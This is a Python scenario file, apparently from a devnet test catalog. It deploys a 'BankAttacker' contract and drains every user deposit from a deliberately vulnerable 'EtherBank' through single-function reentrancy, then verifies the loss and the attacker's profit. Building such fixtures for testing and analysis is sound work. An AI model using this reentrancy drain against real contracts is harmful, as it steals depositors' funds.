"""Scenario `reentrancy-bank`: BankAttacker drains EtherBank through single-function reentrancy.

The attacker EOA (mallory) deploys BankAttacker in one block and calls `attack{value: 1 ether}()`
in the next. The stake is withdrawn once per re-entrant frame (bank -> attacker.receive -> bank),
until every user's deposit is gone; the loot is forwarded to mallory.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import Scenario
from timemachine.catalog.scenarios.contract import deploy
from timemachine.catalog.scenarios.world import World
from timemachine.errors import DevnetBuildError

ATTACKER = "mallory"
STAKE = 1 * ETHER
EXPLOIT_GAS = 5_000_000


async def stage(world: World) -> ScenarioRecord:
    """Deploy the attacker contract, then drain the bank; verify the exact loss and payout."""
    chain, bank = world.chain, world.bank
    attacker_contract = await deploy(chain, ATTACKER, "BankAttacker", bank.address)
    await chain.mine()

    deposits = await chain.balance(bank.address)
    before = await chain.balance(actor_address(ATTACKER))
    exploit_tx = await attacker_contract.send(ATTACKER, "attack", value=STAKE, gas=EXPLOIT_GAS)
    block = await chain.mine()
    receipt = block.receipt(exploit_tx)
    fee = int(receipt["gasUsed"], 16) * int(receipt["effectiveGasPrice"], 16)
    profit = await chain.balance(actor_address(ATTACKER)) - before
    left = await chain.balance(bank.address)
    if deposits == 0 or left != 0 or profit != deposits - fee:
        raise DevnetBuildError(
            f"reentrancy exploit {exploit_tx} misbehaved: bank held {deposits} wei, kept {left}, "
            f"attacker profit {profit} wei (fee {fee})"
        )
    return SCENARIO.record(
        exploit_tx=exploit_tx,
        block_number=block.number,
        attacker=actor_address(ATTACKER),
        attacker_contracts=[attacker_contract.address],
        victims=[bank.address],
        expected_loss_wei=deposits,
    )


SCENARIO = Scenario(
    id="reentrancy-bank",
    title="EtherBank drained by single-function reentrancy",
    description=(
        "EtherBank.withdraw pays the caller before recording the debit. BankAttacker deposits a "
        "1 ETH stake and withdraws it, re-entering withdraw from receive() once per remaining "
        "ether until the bank holds nothing, then forwards all users' deposits (50 ETH) and its "
        "stake to the attacker EOA."
    ),
    vulnerability_class="reentrancy",
    stage=stage,
)
